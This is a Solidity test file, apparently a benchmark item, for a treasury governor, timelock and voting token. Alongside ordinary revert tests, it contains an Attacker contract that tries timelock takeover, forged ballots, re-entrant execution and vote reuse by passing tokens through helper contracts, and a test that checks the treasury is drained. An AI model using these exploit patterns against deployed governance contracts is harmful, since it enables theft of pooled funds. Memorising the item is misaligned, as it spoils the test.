// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./TreasuryGovernor.sol";
import "./context/Timelock.sol";
import "./context/VotesToken.sol";

// assay-canary-53e25632-1b06-454d-b358-734d52991336

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8, bytes32, bytes32);
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Mate {
    TreasuryGovernor internal governor;
    VotesToken internal token;

    constructor(TreasuryGovernor governor_, VotesToken token_) {
        governor = governor_;
        token = token_;
        token_.delegate(address(this));
    }

    function vote(uint256 id, address next) external {
        (bool ok, ) = address(governor).call(abi.encodeCall(governor.castVote, (id, 1)));
        ok;
        token.transfer(next, token.balanceOf(address(this)));
    }
}

contract Attacker {
    TreasuryGovernor internal governor;
    Timelock internal timelock;
    VotesToken internal token;
    Mate[4] internal mates;
    uint256 internal id;

    constructor(TreasuryGovernor governor_, Timelock timelock_, VotesToken token_) {
        governor = governor_;
        timelock = timelock_;
        token = token_;
        token_.delegate(address(this));
    }

    receive() external payable {
        _try(abi.encodeCall(governor.execute, (id, _loot())));
    }

    function _loot() internal view returns (Action[] memory actions) {
        actions = new Action[](1);
        actions[0] = Action(address(this), 90 ether, "");
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(governor).call(data);
    }

    function _tryTimelock(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(timelock).call(data);
    }

    function begin() external {
        _tryTimelock(abi.encodeCall(timelock.setGovernor, (address(this))));
        _tryTimelock(abi.encodeCall(timelock.queue, ("k")));
        _tryTimelock(abi.encodeCall(timelock.execute, ("k", _loot())));
        _try(abi.encodeCall(governor.setRules, (1 hours, 1 days, 1, 100)));
        for (uint256 i = 0; i < 4; ++i) mates[i] = new Mate(governor, token);
        _try(abi.encodeCall(governor.propose, (_loot(), "grant")));
        id = governor.latestProposal(address(this));
        _try(abi.encodeCall(governor.propose, (_loot(), "again")));
        _try(abi.encodeCall(governor.castVote, (id, 1)));
        _try(abi.encodeCall(governor.execute, (id, _loot())));
    }

    function vote() external {
        _try(abi.encodeCall(governor.castVote, (id, 1)));
        _try(abi.encodeCall(governor.castVote, (id, 1)));
        _try(abi.encodeCall(governor.castVote, (id + 1, 1)));
        _try(abi.encodeCall(governor.castVoteBySignature, (address(0), id, 1, type(uint256).max, 27, "r", "s")));
        _try(abi.encodeCall(governor.castVoteBySignature, (address(timelock), id, 1, type(uint256).max, 27, "r", "s")));
        // the same tokens, through the hands of others
        token.delegate(address(mates[0]));
        token.delegate(address(this));
        token.transfer(address(mates[0]), token.balanceOf(address(this)));
        for (uint256 i = 0; i < 4; ++i) mates[i].vote(id, i == 3 ? address(this) : address(mates[i + 1]));
        _try(abi.encodeCall(governor.queue, (id)));
    }

    function end() external {
        _try(abi.encodeCall(governor.execute, (id, _loot())));
        _try(abi.encodeCall(governor.queue, (id)));
        _try(abi.encodeCall(governor.queue, (id + 1)));
        _try(abi.encodeCall(governor.queue, (0)));
        _try(abi.encodeCall(governor.queue, (id)));
    }

    function finish() external {
        _try(abi.encodeCall(governor.execute, (0, _loot())));
        _try(abi.encodeCall(governor.execute, (id, new Action[](0))));
        _try(abi.encodeCall(governor.execute, (id, _loot())));
        _try(abi.encodeCall(governor.execute, (id, _loot())));
    }
}

/// Refuses what it is paid.
contract Stone {}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    uint256 private constant KEY = 0xA11CE;
    address private constant BEN = address(0xBE);
    address private constant CY = address(0xC1);
    address private constant STRANGER = address(0x57);

    address private alice;
    VotesToken private token;
    Timelock private timelock;
    TreasuryGovernor private governor;
    Attacker private holder;

    receive() external payable {}

    function setUp() public {
        vm.warp(1_795_000_000);
        alice = vm.addr(KEY);
        token = new VotesToken(1_000_000 ether);
        timelock = new Timelock(2 days);
        governor = new TreasuryGovernor(token, timelock, 1 days, 5 days, 100, 2_000);
        timelock.setGovernor(address(governor));
        vm.deal(address(timelock), 100 ether);
        holder = new Attacker(governor, timelock, token);
        token.transfer(address(holder), 60_000 ether);
        token.transfer(alice, 300_000 ether);
        token.transfer(BEN, 200_000 ether);
        token.transfer(CY, 5_000 ether);
        vm.prank(alice);
        token.delegate(alice);
        vm.prank(BEN);
        token.delegate(BEN);
        vm.prank(CY);
        token.delegate(CY);
        vm.warp(block.timestamp + 1 days);
    }

    function _pay(address to, uint256 value) private pure returns (Action[] memory actions) {
        actions = new Action[](1);
        actions[0] = Action(to, value, "");
    }

    function _propose(address who, Action[] memory actions) private returns (uint256 id) {
        vm.prank(who);
        id = governor.propose(actions, "a proposal");
    }

    /// Proposed and voted for, until the voting is over.
    function _decided(Action[] memory actions) private returns (uint256 id) {
        id = _propose(alice, actions);
        vm.warp(block.timestamp + 1 days + 1);
        vm.prank(alice);
        governor.castVote(id, 1);
        vm.warp(block.timestamp + 5 days);
    }

    function test_Regular() public {
        uint256 id = _propose(BEN, _pay(STRANGER, 10 ether));
        require(governor.state(id) == TreasuryGovernor.State.Pending, "pending");
        vm.warp(block.timestamp + 1 days + 1);
        require(governor.state(id) == TreasuryGovernor.State.Active, "active");
        vm.prank(BEN);
        governor.castVote(id, 0);
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, governor.ballotDigest(alice, id, 1, 0, block.timestamp));
        governor.castVoteBySignature(alice, id, 1, block.timestamp, v, r, s);
        vm.prank(CY);
        governor.castVote(id, 2);
        vm.warp(block.timestamp + 5 days);
        require(governor.state(id) == TreasuryGovernor.State.Succeeded, "succeeded");
        governor.queue(id);
        require(governor.state(id) == TreasuryGovernor.State.Queued, "queued");
        vm.warp(block.timestamp + 2 days);
        governor.execute(id, _pay(STRANGER, 10 ether));
        require(STRANGER.balance == 10 ether && governor.state(id) == TreasuryGovernor.State.Executed, "executed");

        id = _decided(_pay(STRANGER, 1 ether));
        governor.queue(id);
        vm.prank(alice);
        governor.cancel(id);
        require(timelock.readyAt(keccak256(abi.encode(address(governor), id))) == 0, "taken out");
        vm.prank(address(timelock));
        governor.setRules(2 days, 7 days, 50, 1_000);
        vm.prank(address(timelock));
        timelock.setDelay(3 days);
        require(governor.votingPeriod() == 7 days && timelock.delay() == 3 days, "rules");

        id = _propose(CY, _pay(STRANGER, 1 ether));
        vm.prank(CY);
        token.approve(address(this), 5_000 ether);
        token.transferFrom(CY, BEN, 5_000 ether);
        require(token.getVotes(BEN) == 205_000 ether, "moved");
        vm.warp(block.timestamp + 1);
        governor.cancel(id);
        id = _propose(alice, _pay(STRANGER, 1 ether));
        vm.prank(alice);
        governor.cancel(id);
        require(governor.state(id) == TreasuryGovernor.State.Cancelled, "cancelled");
        id = _propose(BEN, _pay(STRANGER, 1 ether));
        vm.warp(block.timestamp + 30 days);
        require(governor.state(id) == TreasuryGovernor.State.Defeated, "no quorum");
        (bool ok, ) = address(timelock).call{value: 1 ether}("");
        require(ok && address(timelock).balance == 91 ether, "income");
    }

    // What is refused, each from the state after setUp().

    function badRules(uint256 delay, uint256 period, uint256 threshold, uint256 quorum) private {
        vm.expectRevert(TreasuryGovernor.BadRules.selector);
        new TreasuryGovernor(token, timelock, delay, period, threshold, quorum);
    }

    function test_RefusesRules() public {
        badRules(1 hours - 1, 5 days, 100, 2_000);
        badRules(14 days + 1, 5 days, 100, 2_000);
        badRules(1 days, 1 days - 1, 100, 2_000);
        badRules(1 days, 30 days + 1, 100, 2_000);
        badRules(1 days, 5 days, 0, 2_000);
        badRules(1 days, 5 days, 1_001, 2_000);
        badRules(1 days, 5 days, 100, 99);
        badRules(1 days, 5 days, 100, 5_001);
        vm.expectRevert(TreasuryGovernor.ZeroAddress.selector);
        new TreasuryGovernor(IVotes(address(0)), timelock, 1 days, 5 days, 100, 2_000);
        vm.expectRevert(TreasuryGovernor.ZeroAddress.selector);
        new TreasuryGovernor(token, ITimelock(address(0)), 1 days, 5 days, 100, 2_000);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.OnlyTimelock.selector, address(this)));
        governor.setRules(1 days, 5 days, 100, 2_000);
    }

    function test_RefusesTimelockCalls() public {
        vm.expectRevert(abi.encodeWithSelector(Timelock.BadDelay.selector, 1 days - 1));
        new Timelock(1 days - 1);
        vm.expectRevert(abi.encodeWithSelector(Timelock.BadDelay.selector, 30 days + 1));
        new Timelock(30 days + 1);
        bytes memory no = abi.encodeWithSelector(Timelock.NotAuthorised.selector, address(this));
        vm.expectRevert(no);
        timelock.setGovernor(address(this));
        vm.expectRevert(no);
        timelock.setDelay(1 days);
        vm.expectRevert(no);
        timelock.queue("k");
        vm.expectRevert(no);
        timelock.cancel("k");
        vm.expectRevert(no);
        timelock.execute("k", new Action[](0));
        Timelock fresh = new Timelock(2 days);
        vm.expectRevert(Timelock.ZeroAddress.selector);
        fresh.setGovernor(address(0));
        fresh.setGovernor(address(this));
        vm.expectRevert(abi.encodeWithSelector(Timelock.NotQueued.selector, bytes32("k")));
        fresh.execute("k", new Action[](0));
        fresh.queue("k");
        vm.expectRevert(abi.encodeWithSelector(Timelock.AlreadyQueued.selector, bytes32("k")));
        fresh.queue("k");
        uint256 ready = block.timestamp + 2 days;
        vm.warp(ready - 1);
        vm.expectRevert(abi.encodeWithSelector(Timelock.NotReady.selector, ready));
        fresh.execute("k", new Action[](0));
        vm.warp(ready + 14 days + 1);
        vm.expectRevert(abi.encodeWithSelector(Timelock.Expired.selector, ready));
        fresh.execute("k", new Action[](0));
    }

    function test_RefusesTokenCalls() public {
        vm.expectRevert(abi.encodeWithSelector(VotesToken.SupplyTooLarge.selector, 1 << 208));
        new VotesToken(1 << 208);
        vm.expectRevert(VotesToken.ZeroAddress.selector);
        token.transfer(address(0), 1);
        vm.expectRevert(abi.encodeWithSelector(VotesToken.NotPastYet.selector, block.timestamp));
        token.getPastVotes(alice, block.timestamp);
    }

    function test_RefusesProposals() public {
        vm.prank(alice);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.BadNumberOfActions.selector, 0));
        governor.propose(new Action[](0), "");
        vm.prank(alice);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.BadNumberOfActions.selector, 11));
        governor.propose(new Action[](11), "");
        vm.prank(CY);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.TooFewVotes.selector, 5_000 ether, 10_000 ether));
        governor.propose(_pay(CY, 1), "");
        uint256 id = _propose(alice, _pay(alice, 1));
        vm.prank(alice);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.LiveProposal.selector, id));
        governor.propose(_pay(alice, 1), "");
        vm.warp(block.timestamp + 1 days + 1);
        vm.prank(alice);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.LiveProposal.selector, id));
        governor.propose(_pay(alice, 1), "");
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.NotCancellable.selector, id));
        governor.cancel(id);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.NotCancellable.selector, 9));
        governor.cancel(9);
        vm.prank(alice);
        governor.cancel(id);
        vm.prank(alice);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.NotCancellable.selector, id));
        governor.cancel(id);
    }

    function test_RefusesVotes() public {
        uint256 id = _propose(alice, _pay(alice, 1));
        vm.prank(alice);
        vm.expectRevert(
            abi.encodeWithSelector(TreasuryGovernor.WrongState.selector, id, TreasuryGovernor.State.Pending)
        );
        governor.castVote(id, 1);
        vm.warp(block.timestamp + 1 days + 1);
        vm.prank(alice);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.BadSupport.selector, 3));
        governor.castVote(id, 3);
        vm.prank(alice);
        governor.castVote(id, 1);
        vm.prank(alice);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.AlreadyVoted.selector, alice));
        governor.castVote(id, 1);
        vm.prank(alice);
        vm.expectRevert();
        governor.castVote(id + 1, 1);
    }

    function test_RefusesBallots() public {
        uint256 id = _propose(alice, _pay(alice, 1));
        vm.warp(block.timestamp + 1 days + 1);
        uint256 expiry = block.timestamp;
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, governor.ballotDigest(alice, id, 1, 0, expiry));
        vm.expectRevert(TreasuryGovernor.BadSignature.selector);
        governor.castVoteBySignature(alice, id, 0, expiry, v, r, s);
        vm.expectRevert(TreasuryGovernor.BadSignature.selector);
        governor.castVoteBySignature(address(0), id, 1, expiry, 1, r, s);
        vm.warp(expiry + 1);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.BallotExpired.selector, expiry));
        governor.castVoteBySignature(alice, id, 1, expiry, v, r, s);
    }

    function test_RefusesCarryingOut() public {
        uint256 id = _decided(_pay(BEN, 5 ether));
        vm.expectRevert(
            abi.encodeWithSelector(TreasuryGovernor.WrongState.selector, id, TreasuryGovernor.State.Succeeded)
        );
        governor.execute(id, _pay(BEN, 5 ether));
        governor.queue(id);
        vm.expectRevert(
            abi.encodeWithSelector(TreasuryGovernor.WrongState.selector, id, TreasuryGovernor.State.Queued)
        );
        governor.queue(id);
        vm.warp(block.timestamp + 2 days);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.WrongActions.selector, id));
        governor.execute(id, _pay(BEN, 6 ether));
        governor.execute(id, _pay(BEN, 5 ether));
        vm.prank(alice);
        vm.expectRevert(abi.encodeWithSelector(TreasuryGovernor.NotCancellable.selector, id));
        governor.cancel(id);
    }

    function test_RefusesWhatFails() public {
        Stone stone = new Stone();
        uint256 id = _decided(_pay(address(stone), 1 ether));
        governor.queue(id);
        vm.warp(block.timestamp + 2 days);
        vm.expectRevert();
        governor.execute(id, _pay(address(stone), 1 ether));
    }

    function exploit() public {
        holder.begin();
        vm.warp(block.timestamp + 1 days + 1);
        holder.vote();
        vm.warp(block.timestamp + 5 days);
        holder.end();
        vm.warp(block.timestamp + 2 days);
        holder.finish();
    }

    function test_Exploit() public {
        uint256 before = address(holder).balance;
        exploit();
        require(address(holder).balance >= before + 50 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(governor);
    }

    function attacker() public view returns (address) {
        return address(holder);
    }
}
